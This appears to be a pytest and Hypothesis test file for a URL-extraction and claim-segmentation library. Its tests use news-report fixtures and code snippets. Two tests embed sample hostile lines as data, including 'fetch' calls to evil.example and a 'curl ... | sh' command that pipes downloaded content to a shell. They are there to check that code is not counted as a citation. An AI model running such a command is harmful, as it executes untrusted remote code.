"""URL extraction and claim segmentation (pure functions: no files, no catalogue)."""

from __future__ import annotations

import re
from pathlib import Path

from hypothesis import example, given, settings
from hypothesis import strategies as st

from evarchive.citedurls import find_urls, trim_url

from evarchive.extract import Block, Document, Link, Note, NoteRef, segment
from evarchive.reports import read_markdown, text_blocks

SEED = Path(__file__).parent / "data" / "seed_report.txt"


def urls(text: str) -> list[str]:
    return [u.url for u in find_urls(text)]


# --------------------------------------------------------------------------- examples

def test_trailing_punctuation_from_the_seed() -> None:
    assert urls("https://news.zerkalo.io/life/57715.html,") == ["https://news.zerkalo.io/life/57715.html"]
    assert urls("about 1,000 known cases (https://spring96.org/ru/news/115071).") == [
        "https://spring96.org/ru/news/115071"]


def test_brackets_that_belong_to_the_url_stay() -> None:
    assert urls("see https://en.wikipedia.org/wiki/Minsk_(city).") == ["https://en.wikipedia.org/wiki/Minsk_(city)"]
    assert urls("(see https://en.wikipedia.org/wiki/Minsk_(city))") == ["https://en.wikipedia.org/wiki/Minsk_(city)"]
    assert urls("[https://example.org/a]") == ["https://example.org/a"]


def test_quotes_and_angle_brackets_delimit() -> None:
    assert urls('he wrote "https://example.org/a" and “https://example.org/b”.') == [
        "https://example.org/a", "https://example.org/b"]
    assert urls("<https://example.org/c>") == ["https://example.org/c"]
    assert urls("'https://example.org/d'") == ["https://example.org/d"]


def test_non_ascii_and_percent_escapes_are_kept_as_written() -> None:
    dash = "https://rus.lsm.lv/statja/grazhdanin-belarusi\u2013uspelzapechatlet-17-obyektov.a466902"
    assert urls(f"Lithuanian citizens. {dash}") == [dash]
    spaced = "https://planbmedia.io/signal/chto-delat-%20%20biznesam.html"
    assert urls(spaced + "\n") == [spaced]
    assert urls("https://пример.рф/путь/страница?q=да") == ["https://пример.рф/путь/страница?q=да"]


def test_cjk_prose_punctuation_ends_a_url_without_a_space() -> None:
    assert urls("据报道见https://example.cn/a/b。下一句话。") == ["https://example.cn/a/b"]
    assert urls("参见（https://zh.wikipedia.org/wiki/北京）。") == ["https://zh.wikipedia.org/wiki/北京"]
    assert urls("「https://example.jp/記事」と述べた、https://example.jp/b，以及https://example.jp/c；") == [
        "https://example.jp/記事", "https://example.jp/b", "https://example.jp/c"]


def test_what_is_not_a_url() -> None:
    assert urls("no links here, only text: http and https.") == []
    assert urls("https:// alone") == []
    assert urls("ftp://example.org/x mailto:a@b.c") == []
    assert urls("xhttps://example.org/glued") == []


def test_markdown_link_syntax_in_plain_text() -> None:
    assert urls("[the ministry](https://example.org/m).") == ["https://example.org/m"]


def test_trim_url_stops_at_url_characters() -> None:
    assert trim_url("https://example.org/a/") == "https://example.org/a/"
    assert trim_url("https://example.org/a?x=1&y=") == "https://example.org/a?x=1&y="
    assert trim_url("https://example.org/a.html);") == "https://example.org/a.html"


# --------------------------------------------------------------------------- property tests

_HOSTS = st.one_of(
    st.from_regex(r"[a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?(\.[a-z0-9]{1,8}){0,2}\.(com|org|lt|io|by)", fullmatch=True),
    st.sampled_from(["пример.рф", "bücher.de", "xn--80ak6aa92e.com", "127.0.0.1", "www.delfi.lt"]),
)
_SEGMENT_CHARS = st.sampled_from(list(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~!$&'*+,;=:@"
    "\u2013\u00fc\u00e9\u0436\u0448\u00e7\u4e2d\u0105\u010d") + ["%20", "%C3%BC", "%2F", "%e2%80%93"])


@st.composite
def _segments(draw: st.DrawFn) -> str:
    segment = "".join(draw(st.lists(_SEGMENT_CHARS, min_size=0, max_size=12)))
    if draw(st.booleans()) and draw(st.booleans()):
        segment = f"{segment}({draw(st.text('abcxyz019_', max_size=6))})"  # balanced, Wikipedia-style
    return segment


@st.composite
def web_urls(draw: st.DrawFn) -> str:
    url = f"{draw(st.sampled_from(['http', 'https', 'HTTPS']))}://{draw(_HOSTS)}"
    if draw(st.booleans()):
        url += f":{draw(st.integers(1, 65535))}"
    for piece in draw(st.lists(_segments(), max_size=5)):
        url += "/" + piece
    if draw(st.booleans()):
        url += "?" + "&".join(f"{k}={v}" for k, v in draw(st.dictionaries(
            st.from_regex(r"[a-z]{1,5}", fullmatch=True), st.from_regex(r"[A-Za-z0-9%._-]{0,6}", fullmatch=True),
            max_size=3)).items())
    if draw(st.booleans()):
        url += "#" + draw(st.from_regex(r"[a-z0-9-]{0,8}", fullmatch=True))
    # A cited URL that really ends in prose punctuation is ambiguous for any reader; the
    # generator avoids it so that the property states what a careful human would extract.
    if url[-1] in ".,;:!?'*":
        url += "x"
    # Likewise a quote opened inside a path (``_'x``) followed by a closing quote in the prose
    # reads as a quoted path segment (``_'x'``), which is how the extractor reads it.
    return re.sub(r"(?<=[_\-/=(~.:{\[,])'+", "", url)


_PREFIXES = st.sampled_from(["", "(", "[", '"', "\u201c", "'", "<", "\u00ab", "\u2018", "(see ", "at: ", "\u201e"])
_SUFFIXES = st.sampled_from(["", ".", ",", ";", ":", ")", ").", "),", '"', "\u201d", "'", "'.", ">", "\u00bb",
                             "!", "?", "\u2026", "]", "\u2019", ");", "\u201d.", ".)", "?!"])
_WORDS = st.lists(st.text(st.sampled_from(list("abcxyzABCЖжüé019.,;!?()-\u2013\u201c\u201d'")), min_size=1,
                          max_size=10), max_size=6)
_SPACES = st.sampled_from([" ", "\n", "\u00a0", "\t", "  ", "\n\n"])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(_WORDS, _PREFIXES, web_urls(), _SUFFIXES, _SPACES), min_size=1, max_size=5), _WORDS)
@example([([], "(", "https://spring96.org/ru/news/115071", ").", " ")], [])
@example([(["see"], "", "https://news.zerkalo.io/life/57715.html", ",", "\n")], [])
def test_every_embedded_url_comes_back_exactly(pieces: list, tail: list[str]) -> None:
    text, expected = "", []
    for words, prefix, url, suffix, space in pieces:
        text += " ".join(words) + space + prefix + url + suffix + space
        expected.append(url)
    text += " ".join(tail)
    found = find_urls(text)
    assert [u.url for u in found] == expected
    assert all(text[u.start:u.end] == u.url for u in found)


_CJK_WORDS = st.text(st.sampled_from(list("据报道参见北京记事と述べた以及下一句")), max_size=8)
_CJK_OPENERS = st.sampled_from(["", "\uff08", "\u300c", "\u300e", "\u3010", "\u300a", "\uff3b"])
_CJK_CLOSERS = st.sampled_from(["\u3002", "\uff0c", "\u3001", "\uff1b", "\uff1a", "\uff01", "\uff1f",
                                "\uff09", "\u300d", "\u300f", "\u3011", "\u300b", "\uff3d", "\uff09\u3002"])


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(_CJK_WORDS, _CJK_OPENERS, web_urls(), _CJK_CLOSERS), min_size=1, max_size=4),
       _CJK_WORDS)
def test_urls_in_chinese_and_japanese_prose_come_back_exactly(pieces: list, tail: str) -> None:
    """No spaces around the URL: the ideographic punctuation after it is the only delimiter."""
    text = "".join(words + opener + url + closer for words, opener, url, closer in pieces) + tail
    found = find_urls(text)
    assert [u.url for u in found] == [url for _, _, url, _ in pieces]
    assert all(text[u.start:u.end] == u.url for u in found)


@settings(max_examples=100, deadline=None)
@given(_WORDS, _SPACES)
def test_prose_without_urls_yields_nothing(words: list[str], space: str) -> None:
    assert find_urls(space.join(words)) == []


# --------------------------------------------------------------------------- the seed report

def seed_document() -> Document:
    return Document("txt", text_blocks(SEED.read_text(encoding="utf-8")))


def expected_seed_links() -> list[tuple[str, str]]:
    """(URL, supported paragraph) read off the seed independently of the segmenter.

    A paragraph that is nothing but a URL supports the last prose paragraph before it; a URL
    inside a prose paragraph (the seed has them only at paragraph ends) supports that paragraph.
    """
    pairs: list[tuple[str, str]] = []
    last_prose = ""
    for paragraph in re.split(r"\n[ \t\u00a0]*\n", SEED.read_text(encoding="utf-8")):
        paragraph = paragraph.strip()
        found = re.findall(r"https?://\S+", paragraph)
        cleaned = [u.rstrip(".,").removesuffix(")") for u in found]
        if found and paragraph == found[0]:
            pairs.append((cleaned[0], last_prose))
            continue
        if paragraph:
            last_prose = paragraph
        pairs.extend((u, paragraph) for u in cleaned)
    return pairs


def test_seed_gives_30_sources_from_31_citations_each_on_its_paragraph() -> None:
    claims = segment(seed_document())
    links = [(c.url, claim.text) for claim in claims for c in claim.citations]
    assert len(links) == 31
    assert len({url for url, _ in links}) == 30
    assert links == expected_seed_links()
    assert all(claim.scope == "paragraph" for claim in claims)


def test_seed_spot_checks() -> None:
    claims = segment(seed_document())
    by_url = {c.url: claim for claim in claims for c in claim.citations}
    harassment = by_url["https://news.zerkalo.io/life/57715.html"]
    assert harassment.text.startswith("In the Lithuanian media\u00a0there is a harassment")
    assert len(harassment.citations) == 4 and {c.via for c in harassment.citations} == {"line"}
    spring = by_url["https://spring96.org/ru/news/115071"]
    assert spring.text.startswith("In Belarus, all those who participated")
    assert spring.citations[0].via == "inline"
    assert spring.line == 249
    facebook = [u for u in by_url if "facebook" in u][0]
    assert by_url[facebook].text.startswith("Lithuanian politicians publicly call for a legal ban")
    tv3 = "https://www.tv3.lt/naujiena/lietuva/lietuva-issiuncia-itarimu-keliancius-baltarusius-atgal-kai-kuriuos-isveza-per-dvi-savaites-kiti-dar-bando-bylinetis-n1369145"
    cited = [claim.text for claim in claims for c in claim.citations if c.url == tv3]
    assert len(cited) == 2
    assert cited[0].startswith("The Lithuanian Migration Department recognizes")
    assert cited[1].startswith("\u201cSeeing that someone is establishing")


# --------------------------------------------------------------------------- segmentation rules

def doc(*texts: str, notes: dict[str, Note] | None = None) -> Document:
    return Document("txt", [Block(t) for t in texts], notes or {})


def test_several_url_lines_support_the_paragraph_before_them() -> None:
    claims = segment(doc("First claim.", "https://a.example/1", "https://a.example/2", "Second claim.",
                         "https://a.example/3"))
    assert [(c.text, [x.url for x in c.citations]) for c in claims] == [
        ("First claim.", ["https://a.example/1", "https://a.example/2"]),
        ("Second claim.", ["https://a.example/3"])]


def test_url_lines_inside_one_block_and_source_labels() -> None:
    claims = segment(doc("A hard-wrapped\nclaim here.\nSource: https://a.example/1\n[2] https://a.example/2"))
    assert len(claims) == 1
    assert claims[0].text == "A hard-wrapped\nclaim here."
    assert [x.via for x in claims[0].citations] == ["line", "line"]


def test_inline_url_mid_paragraph_supports_its_sentence() -> None:
    text = ("The ministry denied it. Yet 224 people were expelled https://a.example/x in 2024. "
            "Nobody appealed.")
    claims = segment(doc(text))
    assert [c.text for c in claims] == ["Yet 224 people were expelled https://a.example/x in 2024."]
    assert claims[0].scope == "sentence" and claims[0].offset == text.index("Yet")


def test_url_after_a_sentence_end_mid_paragraph_supports_the_sentence_before() -> None:
    text = "Art. 3 was violated, said Dr. Smith. https://a.example/x Then more happened."
    claims = segment(doc(text))
    assert claims[0].text == "Art. 3 was violated, said Dr. Smith. https://a.example/x"


def test_footnote_marker_supports_the_sentence_carrying_it() -> None:
    text = "First sentence. Second sentence has a note. Third sentence."
    offset = text.index(" Third")
    notes = {"fn:1": Note("footnote", "1", "See https://a.example/n and https://a.example/m.")}
    block = Block(text, note_refs=[NoteRef("fn:1", offset)])
    claims = segment(Document("docx", [block], notes))
    assert [c.text for c in claims] == ["Second sentence has a note."]
    assert [(x.url, x.via, x.note) for x in claims[0].citations] == [
        ("https://a.example/n", "footnote", "1"), ("https://a.example/m", "footnote", "1")]


def test_hyperlink_with_other_visible_text() -> None:
    text = "Officials confirmed the figures. The ministry said so in a statement."
    start = text.index("said so")
    block = Block(text, links=[Link("https://a.example/statement", start, start + 7),
                               Link("mailto:press@a.example", 0, 9), Link("#top", 0, 3)])
    claims = segment(Document("html", [block]))
    assert [(c.text, [x.url for x in c.citations]) for c in claims] == [
        ("The ministry said so in a statement.", ["https://a.example/statement"])]
    assert claims[0].citations[0].via == "link"


def test_a_link_whose_text_is_the_url_counts_once() -> None:
    text = "Claim. https://a.example/x"
    block = Block(text, links=[Link("https://a.example/x", 7, len(text))])
    claims = segment(Document("html", [block]))
    assert [(x.url, x.via) for c in claims for x in c.citations] == [("https://a.example/x", "inline")]


def test_a_link_showing_one_url_and_leading_to_another_cites_both() -> None:
    """Authors show the original and link to an archived copy (or the reverse): the reader
    follows the target, and the text is what the printed report shows."""
    shown = "https://news.example/story"
    text = f"The strike was reported. {shown}"
    target = "https://web.archive.org/web/2020/https://news.example/story"
    block = Block(text, links=[Link(target, text.index(shown), len(text))])
    claims = segment(Document("html", [block]))
    assert [(x.url, x.via) for c in claims for x in c.citations] == [(shown, "inline"), (target, "link-target")]


def test_a_link_whose_target_is_the_shown_url_spelled_otherwise_counts_once() -> None:
    text = "Claim. https://A.example/x"
    block = Block(text, links=[Link("https://a.example:443/x", 7, len(text))])
    claims = segment(Document("html", [block]))
    assert [(x.url, x.via) for c in claims for x in c.citations] == [("https://A.example/x", "inline")]


def test_markdown_link_whose_text_is_another_url(tmp_path: Path) -> None:
    path = tmp_path / "r.md"
    path.write_text("The ministry denied it [https://gov.example/b](https://archive.ph/b1).\n", encoding="utf-8")
    [claim] = segment(read_markdown(path.read_bytes(), path))
    assert [(x.url, x.via) for x in claim.citations] == [
        ("https://gov.example/b", "inline"), ("https://archive.ph/b1", "link-target")]


def test_leading_url_lines_without_a_paragraph_are_their_own_claim() -> None:
    claims = segment(doc("https://a.example/1", "Text without links."))
    assert [c.text for c in claims] == ["https://a.example/1"]


def test_code_is_quoted_material_and_cites_only_when_it_holds_nothing_but_a_url(tmp_path: Path) -> None:
    """One rule for inline and block code: `https://x` alone cites; a program's URLs do not."""
    path = tmp_path / "r.md"
    path.write_text(
        "The lure used `https://lure.example/tube` on targets.\n\n"
        "The script called `fetch(\"https://evil.example/beacon\")` from every page.\n\n"
        "```js\nfetch(\"https://evil.example/collect?id=1\");\n```\n\n"
        "The panel was listed on its own.\n\n```\nhttps://c2.example/panel\n```\n", encoding="utf-8")
    claims = segment(read_markdown(path.read_bytes(), path))
    assert [(c.text, [(x.url, x.via) for x in c.citations]) for c in claims] == [
        ("The lure used https://lure.example/tube on targets.", [("https://lure.example/tube", "inline")]),
        ("The panel was listed on its own.", [("https://c2.example/panel", "line")])]


def test_html_code_follows_the_same_rule(tmp_path: Path) -> None:
    from evarchive.reports import read_html

    path = tmp_path / "r.html"
    path.write_text("<html><body><p>The lure used <code>https://lure.example/tube</code> on targets.</p>"
                    "<p>The script ran <code>fetch('https://evil.example/beacon')</code> on load.</p>"
                    "<pre>curl https://evil.example/collect?id=1 | sh</pre>"
                    "<p>The panel was listed.</p><pre>https://c2.example/panel</pre></body></html>",
                    encoding="utf-8")
    claims = segment(read_html(path.read_bytes(), path))
    assert [(c.text, [(x.url, x.via) for x in c.citations]) for c in claims] == [
        ("The lure used https://lure.example/tube on targets.", [("https://lure.example/tube", "inline")]),
        ("The panel was listed.", [("https://c2.example/panel", "line")])]


def test_markdown_written_with_html_links_and_notes_is_read_as_its_html(tmp_path: Path) -> None:
    path = tmp_path / "r.md"
    path.write_text("---\ntitle: Policy\n---\n\n# Policy\n\n"
                    "Agencies spend billions on software.<sup><a href=\"#fn1\" id=\"fnr1\">1</a></sup>\n\n"
                    "<ol><li id=\"fn1\"><sup>1</sup> See <a href=\"https://gov.example/m-16\">M-16</a>."
                    "<a href=\"#fnr1\">&#8617;</a></li></ol>\n", encoding="utf-8")
    claims = segment(read_markdown(path.read_bytes(), path))
    assert [(c.text, [(x.url, x.via) for x in c.citations]) for c in claims] == [
        ("Agencies spend billions on software.", [("https://gov.example/m-16", "footnote")])]


def test_a_note_that_no_marker_refers_to_is_a_claim_of_its_own(tmp_path: Path) -> None:
    """OCR text loses markers ("[^140]" became " 140"): the note's URLs must not vanish."""
    path = tmp_path / "r.md"
    path.write_text("The files were released online. 140\n\n"
                    "A sentence with a real marker.[^2]\n\n"
                    "[^140]: See, e.g., Internet archive, \"https://leaks.example/\" (archive date Nov. 10, 2016).\n"
                    "[^2]: https://marked.example/two\n", encoding="utf-8")
    claims = segment(read_markdown(path.read_bytes(), path))
    assert [(c.text, c.scope, c.line, [(x.url, x.via, x.note) for x in c.citations]) for c in claims] == [
        ("A sentence with a real marker.", "paragraph", 3, [("https://marked.example/two", "footnote", "2")]),
        ("See, e.g., Internet archive, \"https://leaks.example/\" (archive date Nov. 10, 2016).", "note", 5,
         [("https://leaks.example/", "footnote", "140")])]


def test_scheme_less_www_urls_in_a_footnote_are_citations_of_the_sentence() -> None:
    text = "The comment applies to adolescents.\u200f"
    doc = Document("docx", [Block(text, note_refs=[NoteRef("fn:2", len(text))])],
                   {"fn:2": Note("footnote", "2", "انظر www.who.int/maternal_child_adolescent/en/. و www.un.org")})
    claims = segment(doc)
    assert [(x.url, x.via, x.note) for c in claims for x in c.citations] == [
        ("www.who.int/maternal_child_adolescent/en/", "footnote", "2"), ("www.un.org", "footnote", "2")]


def test_link_only_furniture_pasted_from_a_journal_page_is_not_cited() -> None:
    authors = "Dana Loomis, Kurt Straif, on behalf of the Working Group"
    search = "http://www.thelancet.com/search/results?fieldName=Authors&searchTerm="
    entry = "1 IARC. Polychlorinated biphenyls. Lyon: IARC, 2013. PubMed"
    page = "http://www.thelancet.com/journals/lanonc/article/PIIS1470-2045(13)70104-9/fulltext"
    pubmed = "http://www.ncbi.nlm.nih.gov/sites/entrez?db=pubmed&cmd=Search&term=IARC%5bJour%5d"
    doc = Document("docx", [
        Block(authors, links=[Link(search + "Dana+Loomis", 0, 11), Link(search + "Kurt+Straif", 13, 24)]),
        Block(entry, links=[Link(page + "#back-bib1", 0, 1), Link(pubmed, len(entry) - 6, len(entry))]),
        Block("^ Smith 2010.", links=[Link("https://en.wikipedia.org/wiki/Duck#cite_ref-3", 0, 1)]),
        Block("The method is set out here.", links=[Link("https://example.org/paper#background", 22, 26)]),
    ])
    claims = segment(doc)
    assert [(c.text, [x.url for x in c.citations]) for c in claims] == [
        (entry, [pubmed]), ("The method is set out here.", ["https://example.org/paper#background"])]


def test_a_bare_host_beside_a_link_to_that_site_names_the_site_and_is_not_cited() -> None:
    text = '"Pacific Black Duck". www.wiresnr.org. Retrieved 2019. See also www.fao.org/faostat.'
    note = Note("footnote", "1", text, links=[Link("http://www.wiresnr.org/pacificblackduck.html", 0, 20)])
    doc = Document("html", [Block("Ducks dabble.", note_refs=[NoteRef("n1", 13)])], {"n1": note})
    cited = [x.url for c in segment(doc) for x in c.citations]
    assert cited == ["http://www.wiresnr.org/pacificblackduck.html", "www.fao.org/faostat"]


def test_a_url_wrapped_after_an_underscore_is_one_citation_captured_whole() -> None:
    from evarchive.citedurls import capture_url

    printed = "www.unicef.org/files/Implementation_Handbook_for_the_Rights_\nof_the_Child_Part_1_of_3.pdf"
    doc = Document("docx", [Block("The handbook says so.", note_refs=[NoteRef("fn:1", 21)])],
                   {"fn:1": Note("footnote", "1", f"See \t\n{printed}.")})
    cited = [x.url for c in segment(doc) for x in c.citations]
    assert cited == [printed]
    assert capture_url(printed) == ("http://www.unicef.org/files/Implementation_Handbook_for_the_Rights_"
                                    "of_the_Child_Part_1_of_3.pdf")
